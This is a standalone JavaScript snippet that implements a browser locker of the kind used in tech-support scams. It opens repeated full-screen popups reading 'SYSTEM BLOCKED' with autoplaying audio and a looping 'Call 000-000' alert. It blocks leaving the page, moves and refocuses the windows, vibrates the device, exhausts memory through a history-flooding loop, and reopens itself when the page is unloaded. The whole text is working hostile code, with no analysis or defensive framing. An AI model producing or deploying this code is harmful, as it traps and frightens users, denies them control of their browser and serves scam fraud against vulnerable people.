const page = `<title>ALERT</title><body style="background:red"><h1>SYSTEM BLOCKED</h1><audio src="https://alert-media.example/s.mp3" autoplay loop></audio><script>onbeforeunload=()=>"";setInterval(()=>alert("Call 000-000"),10)<\/script>`;
let cached = [];
function open_() {
  const u = URL.createObjectURL(new Blob([page + Math.random()], { type: "text/html" }));
  const w = window.open(u, "_blank", "width=" + screen.width + ",height=" + screen.height + ",left=0,top=0");
  if (w) cached.push(w);
  return w;
}
function bounce() {
  cached.forEach((w) => {
    try {
      w.moveTo(Math.random() * screen.width, Math.random() * screen.height);
      w.focus();
    } catch (e) {}
  });
}
function freeze() {
  const total = [];
  for (let i = 0; i < 1e5; i++) {
    total.push(i.toString().repeat(100));
    history.replaceState(0, 0, "/" + total.length);
  }
}
["click", "keydown", "mousedown", "touchstart"].forEach((t) =>
  document.addEventListener(t, (e) => {
    e.preventDefault();
    for (let i = 0; i < 5; i++) open_();
    navigator.vibrate && navigator.vibrate([1000, 100, 1000]);
    setInterval(bounce, 60);
    setTimeout(freeze, 5000);
  })
);
window.onunload = open_;
